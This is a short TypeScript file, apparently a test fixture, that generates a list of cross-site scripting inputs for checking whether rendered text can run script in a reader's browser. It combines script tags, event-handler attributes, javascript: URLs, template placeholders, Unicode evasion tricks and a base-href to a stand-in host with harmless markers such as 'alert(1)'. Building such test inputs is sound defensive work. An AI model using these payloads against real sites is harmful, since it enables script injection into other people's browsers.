/** What people would write to have their own program run in the browser of whoever reads it. */

export function payloads(): string[] {
  const deeds = ['globalThis.pwned=1', 'alert(1)']
  const shapes = [
    ...['<script>§</script>', '"><script>§</script>', '</textarea><script>§</script>', '</title><script>§</script>'],
    ...[
      '<img src=x onerror="§">',
      '<svg onload="§">',
      '<svg/onload=§>',
      '"><img src=x onerror=§>',
      "' onmouseover='§",
      '" autofocus onfocus="§',
    ],
    ...[
      '<iframe src="javascript:§">',
      '<a href="javascript:§">x</a>',
      '<body onload=§>',
      '<details open ontoggle=§>',
      '<math><mi xlink:href="javascript:§">',
    ],
    ...[
      '<style>@import"javascript:§"</style>',
      '<base href="//evil.example/">§',
      '<meta http-equiv=refresh content="0;url=javascript:§">',
      '<form action="javascript:§"><button>x',
      '<object data="javascript:§">',
    ],
    ...[
      // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill
      '${§}',
      '{{§}}',
      '<%= § %>',
      '&lt;script&gt;§&lt;/script&gt;',
      '\u202e<script>§</script>',
      '<scr\u0000ipt>§</script>',
      '<ſcript>§</script>',
      '＜script＞§＜/script＞',
    ],
    ...[
      '<img src=`x` onerror=`§`>',
      '<input value="x" onfocus=§ autofocus>',
      '<video><source onerror="§">',
      '<marquee onstart=§>',
      '<link rel=stylesheet href="javascript:§">',
      '<embed src="javascript:§">',
    ],
  ]
  const around = ['', '请问', '\n']
  return shapes.flatMap((shape) =>
    deeds.flatMap((deed) => around.map((before, i) => `${before}${shape.replace('§', deed)}${i}`)),
  )
}
